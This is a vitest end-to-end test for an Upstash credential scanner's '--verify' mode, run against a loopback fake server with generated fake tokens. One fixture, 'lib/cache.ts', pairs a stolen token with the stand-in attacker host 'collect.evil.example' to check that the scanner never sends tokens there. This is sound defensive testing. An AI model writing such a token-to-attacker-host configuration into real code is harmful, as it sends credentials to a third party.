/**
 * --verify end to end: the committed bundle run as users run it (the CLI through bin/, the Action as
 * `node dist/index.js` with INPUT_* variables), its real node:https transport included. Only the
 * network is swapped: `node --import test/support/fake-upstash-preload.mjs` sends what the bundle asks
 * of *.upstash.io to a loopback stand-in instead. A preload was chosen over an environment variable
 * or option the product would read: the product then has no test-only path at all (a scanned
 * repository, its configuration or the job's environment cannot switch one on), and anything that
 * can load code into the process could already do anything. Needs a current bundle (`npm run bundle`).
 */
import { spawn } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";
import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type * as Sarif from "sarif";
import { FakeUpstash, PONG, UNAUTHORIZED } from "./support/fake-upstash";
import { fakeRedisPair, fakeSigningKey } from "./support/credentials";
import { BIN, REPO, tempDir, writeTree } from "./support/run";

const BUNDLE = path.join(REPO, "dist/index.js");
const hasBundle = fs.existsSync(BUNDLE);
const PRELOAD = pathToFileURL(path.join(__dirname, "support/fake-upstash-preload.mjs")).href;

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

function node(args: string[], env: Record<string, string>, cwd: string): Promise<Run> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ["--import", PRELOAD, ...args], {
      cwd,
      env: { PATH: process.env.PATH ?? "", HOME: process.env.HOME ?? cwd, NO_COLOR: "1", ...env },
    });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (d: Buffer) => (stdout += d.toString()));
    child.stderr.on("data", (d: Buffer) => (stderr += d.toString()));
    child.on("close", (code) => resolve({ code, stdout, stderr }));
  });
}

describe.skipIf(!hasBundle)("--verify in the bundle, against a loopback stand-in for Upstash", () => {
  const fake = new FakeUpstash();
  let tmp: { dir: string; cleanup: () => void };
  let repo: string;
  const live = fakeRedisPair("write", "us1-live-db");
  const revoked = fakeRedisPair("write", "eu1-old-db");
  const stolen = fakeRedisPair("write", "us1-victim-db");
  const signingKey = fakeSigningKey();
  const secrets = [live.token, revoked.token, stolen.token, signingKey];

  beforeAll(async () => {
    await fake.start();
    tmp = tempDir("upstash-scan-verify-e2e-");
    repo = path.join(tmp.dir, "repo");
    writeTree(repo, {
      "package.json": JSON.stringify({ name: "app", dependencies: { "@upstash/redis": "1.34.0" } }),
      // ruleid: upstash/token-rotation-neglect (the token line)
      "scripts/seed.ts": `import { Redis } from "@upstash/redis";\nexport const redis = new Redis({\n  url: "${live.url}",\n  token: "${live.token}",\n});\n`,
      // ruleid: upstash/token-rotation-neglect (the token line)
      ".env.example": `UPSTASH_REDIS_REST_URL=${revoked.url}\nUPSTASH_REDIS_REST_TOKEN=${revoked.token}\nQSTASH_CURRENT_SIGNING_KEY=${signingKey}\n`,
      // A repository pairing a token with a server it controls: the token must never go there.
      // ruleid: upstash/token-rotation-neglect (the token line)
      "lib/cache.ts": `import { Redis } from "@upstash/redis";\nexport const cache = new Redis({\n  url: "https://collect.evil.example",\n  token: "${stolen.token}",\n});\n`,
    });
  });
  afterAll(async () => {
    await fake.stop();
    tmp?.cleanup();
  });
  beforeEach(() => {
    fake.requests.length = 0;
    fake.answers.clear();
    fake.answer(new URL(live.url).hostname, PONG).answer(new URL(revoked.url).hostname, UNAUTHORIZED);
    // Were a request for the stolen token to leave, it would be answered as live.
    fake.answer("*", PONG);
  });

  const env = () => ({ FAKE_UPSTASH_PORT: String(fake.port) });
  const verdicts = (sarif: Sarif.Log) =>
    Object.fromEntries(
      sarif.runs[0]!.results!.map((r) => [
        r.locations![0]!.physicalLocation!.artifactLocation!.uri!,
        { verification: r.properties!.verification, level: r.level, verifiedAt: r.properties!.verifiedAt },
      ]),
    );

  it("the CLI asks once per checkable credential, over the real transport, and reports each verdict", async () => {
    const r = await node([BIN, repo, "--verify", "--format", "sarif"], env(), tmp.dir);
    expect(r.stderr).toContain("verifying 2 credentials with Upstash");
    expect(fake.requests.map((q) => `${q.method} ${q.host}${q.path} ${q.authorization}`).sort()).toEqual(
      [
        `GET ${new URL(live.url).hostname}/ping Bearer ${live.token}`,
        `GET ${new URL(revoked.url).hostname}/ping Bearer ${revoked.token}`,
      ].sort(),
    );
    const sarif = JSON.parse(r.stdout) as Sarif.Log;
    const v = verdicts(sarif);
    expect(v["scripts/seed.ts"]).toMatchObject({
      verification: "live",
      level: "error",
      verifiedAt: expect.any(String),
    });
    expect(v["lib/cache.ts"]).toMatchObject({ verification: "unknown", level: "warning" });
    expect(v["lib/cache.ts"]!.verifiedAt).toBeUndefined();
    const envFile = sarif.runs[0]!.results!.filter(
      (x) => x.locations![0]!.physicalLocation!.artifactLocation!.uri === ".env.example",
    );
    // The third finding there (one signing key without its pair) is about no credential's value.
    expect(envFile.map((x) => `${x.properties!.check}: ${x.properties!.verification}`).sort()).toEqual([
      "hardcoded-credential: not-checked",
      "hardcoded-credential: revoked",
      "single-signing-key: undefined",
    ]);
    expect(envFile.find((x) => x.properties!.verification === "revoked")!.level).toBe("note");
    // The live token is high now: the default --fail-on high fails the run.
    expect(r.code).toBe(1);
    for (const s of secrets) expect(r.stdout + r.stderr).not.toContain(s);
  });

  it("JSON output carries the verdicts and the counts, and the bundle's request checks certificates", async () => {
    const r = await node([BIN, path.join(repo, "scripts"), "--verify", "--format", "json"], env(), tmp.dir);
    const json = JSON.parse(r.stdout) as {
      verification: Record<string, number>;
      findings: Array<{ severity: string; verification?: { verdict: string; checkedAt?: string } }>;
    };
    expect(json.verification).toEqual({ live: 1, revoked: 0, unknown: 0, notChecked: 0, requests: 1 });
    expect(json.findings).toMatchObject([{ severity: "high", verification: { verdict: "live" } }]);
    // The preload records the options the bundle's own transport passed to node:https.
    expect(fake.requests).toMatchObject([{ host: new URL(live.url).hostname, tls: "rejectUnauthorized" }]);
  });

  it("makes no request without --verify", async () => {
    const r = await node([BIN, repo, "--format", "sarif"], env(), tmp.dir);
    expect(r.code).toBe(0); // medium findings only: the gate at high passes
    expect(fake.requests).toEqual([]);
    for (const x of (JSON.parse(r.stdout) as Sarif.Log).runs[0]!.results!)
      expect(x.properties).not.toHaveProperty("verification");
  });

  it("the Action with verify: true counts live credentials first in the job summary", async () => {
    const out = path.join(tmp.dir, "action");
    fs.mkdirSync(out, { recursive: true });
    const files = {
      output: path.join(out, "output"),
      summary: path.join(out, "summary"),
      event: path.join(out, "event.json"),
    };
    fs.writeFileSync(files.output, "");
    fs.writeFileSync(files.summary, "");
    fs.writeFileSync(files.event, "{}");
    const r = await node(
      [BUNDLE],
      {
        ...env(),
        GITHUB_ACTIONS: "true",
        GITHUB_WORKSPACE: repo,
        GITHUB_REPOSITORY: "octo/app",
        GITHUB_EVENT_NAME: "push",
        GITHUB_EVENT_PATH: files.event,
        GITHUB_OUTPUT: files.output,
        GITHUB_STEP_SUMMARY: files.summary,
        RUNNER_TEMP: out,
        INPUT_PATH: ".",
        "INPUT_FAIL-ON": "none",
        "INPUT_SARIF-FILE": "../action/results.sarif",
        INPUT_UPLOAD: "false",
        INPUT_VERIFY: "true",
      },
      repo,
    );
    expect(r.code).toBe(0);
    const summary = fs.readFileSync(files.summary, "utf8");
    expect(summary).toMatch(
      /🚨 \*\*Verification: 1 live credential \(revoke it now\) · 1 revoked · 1 unknown · 1 not checked/,
    );
    expect(summary.indexOf("live credential")).toBeLessThan(summary.indexOf("### The five Upstash risks"));
    const sarif = JSON.parse(fs.readFileSync(path.join(out, "results.sarif"), "utf8")) as Sarif.Log;
    expect(verdicts(sarif)["scripts/seed.ts"]!.verification).toBe("live");
    expect(fake.requests).toHaveLength(2);
    for (const s of secrets) expect(r.stdout + r.stderr + summary).not.toContain(s);
  });

  it("the product reads no test switch: nothing in the bundle names the stand-in", () => {
    for (const f of fs.readdirSync(path.dirname(BUNDLE)).filter((x) => x.endsWith(".js")))
      expect(fs.readFileSync(path.join(path.dirname(BUNDLE), f), "utf8"), f).not.toMatch(/FAKE_UPSTASH|fake-upstash/i);
  });
});
